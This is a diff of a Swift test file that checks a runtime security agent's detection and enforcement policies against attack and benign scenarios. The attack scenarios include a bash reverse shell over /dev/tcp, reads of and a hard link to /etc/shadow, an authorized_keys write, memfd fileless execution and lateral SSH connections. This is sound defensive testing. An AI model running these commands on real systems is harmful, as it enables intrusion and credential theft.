@@ -51,17 +51,19 @@ final class PolicyLibraryTests: XCTestCase {
         // every attack reported (by its own policy); then the benign ones must have stayed quiet
         let attacks = ran.filter(\.scenario.attack)
         try agent.waitForAll { all in attacks.allSatisfy { !Self.events(all, policy: $0.scenario.policy, for: $0.pid).isEmpty } }
-        usleep(500_000)
-        let all = try agent.events()
+        let all = try agent.barrier()
         for r in ran {
             let mine = Self.events(all, policy: r.scenario.policy, for: r.pid)
             if r.scenario.attack {
-                XCTAssertFalse(mine.isEmpty, "\(r.scenario.policy): no event for the attack `\(r.scenario.script)` (stderr: \(r.stderr))", file: file, line: line)
+                XCTAssertFalse(
+                    mine.isEmpty, "\(r.scenario.policy): no event for the attack `\(r.scenario.script)` (stderr: \(r.stderr))", file: file, line: line)
                 if let e = mine.first {
                     XCTAssertNotNil(e.process["exec_id"] as? String, "\(r.scenario.policy): the event names its process", file: file, line: line)
                 }
             } else {
-                XCTAssertTrue(mine.isEmpty, "\(r.scenario.policy): the benign `\(r.scenario.script)` was reported: \(mine.first.map { "\($0)" } ?? "")", file: file, line: line)
+                XCTAssertTrue(
+                    mine.isEmpty, "\(r.scenario.policy): the benign `\(r.scenario.script)` was reported: \(mine.first.map { "\($0)" } ?? "")", file: file,
+                    line: line)
             }
             if let want = r.scenario.status {
                 XCTAssertEqual(r.status, want, "\(r.scenario.policy): exit status of `\(r.scenario.script)` (stderr: \(r.stderr))", file: file, line: line)
@@ -83,37 +85,47 @@ final class PolicyLibraryTests: XCTestCase {
         try FileManager.default.createDirectory(atPath: "\(dir)/.ssh", withIntermediateDirectories: true)
         let agent = try AgentHarness(extraArguments: ["--policy-dir", Self.repo + "/policies"])
         let p = peer.peerAddress
-        try run([
-            // file integrity (tracepoint form everywhere)
-            Scenario(policy: "fim-sensitive-files", script: "ln /etc/shadow \(dir)/shadow-link 2>/dev/null; rm -f \(dir)/shadow-link", attack: true),
-            Scenario(policy: "fim-sensitive-files", script: "echo key > \(dir)/.ssh/authorized_keys", attack: true),
-            Scenario(policy: "fim-sensitive-files", script: "chmod 644 /etc/passwd", attack: true),
-            Scenario(policy: "fim-sensitive-files", script: "echo x > \(dir)/notes; ln \(dir)/notes \(dir)/notes2; chmod 600 \(dir)/notes; rm \(dir)/notes2", attack: false),
-            Scenario(policy: "fim-sensitive-files", script: "cat /etc/passwd > /dev/null", attack: false),
-            // credential access (LSM form on the guests, tracepoint form on the host)
-            Scenario(policy: "credential-access", script: "cat /etc/shadow > /dev/null", attack: true),
-            Scenario(policy: "credential-access", script: "cat /etc/hostname > /dev/null", attack: false),
-            // a shell spawned by a network service (a copy of bash named nginx plays the service)
-            Scenario(policy: "exec-shell-from-service", script: "\(dir)/nginx -c '/usr/bin/sh -c true; true'", attack: true),
-            Scenario(policy: "exec-shell-from-service", script: "/usr/bin/bash -c '/usr/bin/sh -c true; true'", attack: false),
-            // execution from writable directories, fileless execution
-            Scenario(policy: "exec-from-writable-dirs", script: "\(dir)/dropper; true", attack: true),
-            Scenario(policy: "exec-from-writable-dirs", script: "/usr/bin/true; true", attack: false),
-            Scenario(policy: "exec-fileless-memfd", script: "/usr/bin/python3 -c 'import os; fd = os.memfd_create(\"implant\"); os.write(fd, open(\"/usr/bin/true\", \"rb\").read()); os.execve(\"/proc/self/fd/%d\" % fd, [\"implant\"], {})'; true", attack: true),
-            Scenario(policy: "exec-fileless-memfd", script: "/usr/bin/python3 -c 'import os; os.execve(\"/usr/bin/true\", [\"true\"], {})'; true", attack: false),
-            // setuid bit
-            Scenario(policy: "setuid-bit-set", script: "cp /usr/bin/true \(dir)/suid; chmod u+s \(dir)/suid", attack: true),
-            Scenario(policy: "setuid-bit-set", script: "cp /usr/bin/true \(dir)/plain; chmod 755 \(dir)/plain", attack: false),
-            // lateral movement: SSH port on a "remote host" from an unexpected program; a web port is fine
-            Scenario(policy: "lateral-admin-ports", script: "/usr/bin/python3 -c 'import socket; socket.create_connection((\"\(p)\", 22), 5)'", attack: true),
-            Scenario(policy: "lateral-admin-ports", script: "/usr/bin/python3 -c 'import socket; socket.create_connection((\"\(p)\", 8080), 5)'", attack: false),
-            // a web server reaching into the internal network; its loopback back end is fine
-            Scenario(policy: "lateral-webserver-internal", script: "\(dir)/nginx -c 'exec 3<>/dev/tcp/\(p)/8081'", attack: true),
-            Scenario(policy: "lateral-webserver-internal", script: "\(dir)/nginx -c 'exec 3<>/dev/tcp/127.0.0.1/\(localPort)'", attack: false),
-            // reverse shell to a listener in the peer namespace; a shell's loopback connect is fine
-            Scenario(policy: "reverse-shell", script: "timeout 2 bash -i >& /dev/tcp/\(p)/4444 0>&1; true", attack: true),
-            Scenario(policy: "reverse-shell", script: "exec 3<>/dev/tcp/127.0.0.1/\(localPort)", attack: false),
-        ], agent: agent, covering: Self.repo + "/policies")
+        try run(
+            [
+                // file integrity (tracepoint form everywhere)
+                Scenario(policy: "fim-sensitive-files", script: "ln /etc/shadow \(dir)/shadow-link 2>/dev/null; rm -f \(dir)/shadow-link", attack: true),
+                Scenario(policy: "fim-sensitive-files", script: "echo key > \(dir)/.ssh/authorized_keys", attack: true),
+                Scenario(policy: "fim-sensitive-files", script: "chmod 644 /etc/passwd", attack: true),
+                Scenario(
+                    policy: "fim-sensitive-files", script: "echo x > \(dir)/notes; ln \(dir)/notes \(dir)/notes2; chmod 600 \(dir)/notes; rm \(dir)/notes2",
+                    attack: false),
+                Scenario(policy: "fim-sensitive-files", script: "cat /etc/passwd > /dev/null", attack: false),
+                // credential access (LSM form on the guests, tracepoint form on the host)
+                Scenario(policy: "credential-access", script: "cat /etc/shadow > /dev/null", attack: true),
+                Scenario(policy: "credential-access", script: "cat /etc/hostname > /dev/null", attack: false),
+                // a shell spawned by a network service (a copy of bash named nginx plays the service)
+                Scenario(policy: "exec-shell-from-service", script: "\(dir)/nginx -c '/usr/bin/sh -c true; true'", attack: true),
+                Scenario(policy: "exec-shell-from-service", script: "/usr/bin/bash -c '/usr/bin/sh -c true; true'", attack: false),
+                // execution from writable directories, fileless execution
+                Scenario(policy: "exec-from-writable-dirs", script: "\(dir)/dropper; true", attack: true),
+                Scenario(policy: "exec-from-writable-dirs", script: "/usr/bin/true; true", attack: false),
+                Scenario(
+                    policy: "exec-fileless-memfd",
+                    script:
+                        "/usr/bin/python3 -c 'import os; fd = os.memfd_create(\"implant\"); os.write(fd, open(\"/usr/bin/true\", \"rb\").read()); os.execve(\"/proc/self/fd/%d\" % fd, [\"implant\"], {})'; true",
+                    attack: true),
+                Scenario(
+                    policy: "exec-fileless-memfd", script: "/usr/bin/python3 -c 'import os; os.execve(\"/usr/bin/true\", [\"true\"], {})'; true", attack: false),
+                // setuid bit
+                Scenario(policy: "setuid-bit-set", script: "cp /usr/bin/true \(dir)/suid; chmod u+s \(dir)/suid", attack: true),
+                Scenario(policy: "setuid-bit-set", script: "cp /usr/bin/true \(dir)/plain; chmod 755 \(dir)/plain", attack: false),
+                // lateral movement: SSH port on a "remote host" from an unexpected program; a web port is fine
+                Scenario(
+                    policy: "lateral-admin-ports", script: "/usr/bin/python3 -c 'import socket; socket.create_connection((\"\(p)\", 22), 5)'", attack: true),
+                Scenario(
+                    policy: "lateral-admin-ports", script: "/usr/bin/python3 -c 'import socket; socket.create_connection((\"\(p)\", 8080), 5)'", attack: false),
+                // a web server reaching into the internal network; its loopback back end is fine
+                Scenario(policy: "lateral-webserver-internal", script: "\(dir)/nginx -c 'exec 3<>/dev/tcp/\(p)/8081'", attack: true),
+                Scenario(policy: "lateral-webserver-internal", script: "\(dir)/nginx -c 'exec 3<>/dev/tcp/127.0.0.1/\(localPort)'", attack: false),
+                // reverse shell to a listener in the peer namespace; a shell's loopback connect is fine
+                Scenario(policy: "reverse-shell", script: "timeout 2 bash -i >& /dev/tcp/\(p)/4444 0>&1; true", attack: true),
+                Scenario(policy: "reverse-shell", script: "exec 3<>/dev/tcp/127.0.0.1/\(localPort)", attack: false),
+            ], agent: agent, covering: Self.repo + "/policies")
         XCTAssertFalse(agent.stderrText().contains("policies failed"), agent.stderrText())
     }
 
@@ -125,19 +137,20 @@ final class PolicyLibraryTests: XCTestCase {
         for port: UInt16 in [22, 8080] { try peer.listen(port: port) }
         try FileManager.default.copyItem(atPath: "/usr/bin/true", toPath: "\(dir)/dropper")
         let agent = try AgentHarness(extraArguments: ["--policy-dir", Self.repo + "/policies/enforce"])
-        defer { _ = agent.stop() } // the exec-from-/tmp killer must not outlive the test
+        defer { _ = agent.stop() }  // the exec-from-/tmp killer must not outlive the test
         let lsm = ConnectDenyTests.lsmActive
         let p = peer.peerAddress
-        try run([
-            Scenario(policy: "deny-lateral-admin-ports", script: "exec 3<>/dev/tcp/\(p)/22", attack: true, status: 1),
-            Scenario(policy: "deny-lateral-admin-ports", script: "exec 3<>/dev/tcp/\(p)/8080", attack: false, status: 0),
-            // killed at exec (SIGKILL: 128 + 9 from bash's point of view)
-            Scenario(policy: "kill-exec-from-writable-dirs", script: "\(dir)/dropper; exit $?", attack: true, status: 137),
-            Scenario(policy: "kill-exec-from-writable-dirs", script: "/usr/bin/true", attack: false, status: 0),
-            // LSM: the open fails (cat exits 1); tracepoint form: cat is killed before the open
-            Scenario(policy: "deny-shadow-read", script: "cat /etc/shadow > /dev/null; exit $?", attack: true, status: lsm ? 1 : 137),
-            Scenario(policy: "deny-shadow-read", script: "cat /etc/hostname > /dev/null", attack: false, status: 0),
-        ], agent: agent, covering: Self.repo + "/policies/enforce")
+        try run(
+            [
+                Scenario(policy: "deny-lateral-admin-ports", script: "exec 3<>/dev/tcp/\(p)/22", attack: true, status: 1),
+                Scenario(policy: "deny-lateral-admin-ports", script: "exec 3<>/dev/tcp/\(p)/8080", attack: false, status: 0),
+                // killed at exec (SIGKILL: 128 + 9 from bash's point of view)
+                Scenario(policy: "kill-exec-from-writable-dirs", script: "\(dir)/dropper; exit $?", attack: true, status: 137),
+                Scenario(policy: "kill-exec-from-writable-dirs", script: "/usr/bin/true", attack: false, status: 0),
+                // LSM: the open fails (cat exits 1); tracepoint form: cat is killed before the open
+                Scenario(policy: "deny-shadow-read", script: "cat /etc/shadow > /dev/null; exit $?", attack: true, status: lsm ? 1 : 137),
+                Scenario(policy: "deny-shadow-read", script: "cat /etc/hostname > /dev/null", attack: false, status: 0),
+            ], agent: agent, covering: Self.repo + "/policies/enforce")
         let denied = try agent.events().filter { ($0.body["policy_name"] as? String) == "deny-lateral-admin-ports" }
         XCTAssertEqual(denied.first?.body["action"] as? String, "KPROBE_ACTION_OVERRIDE")
     }
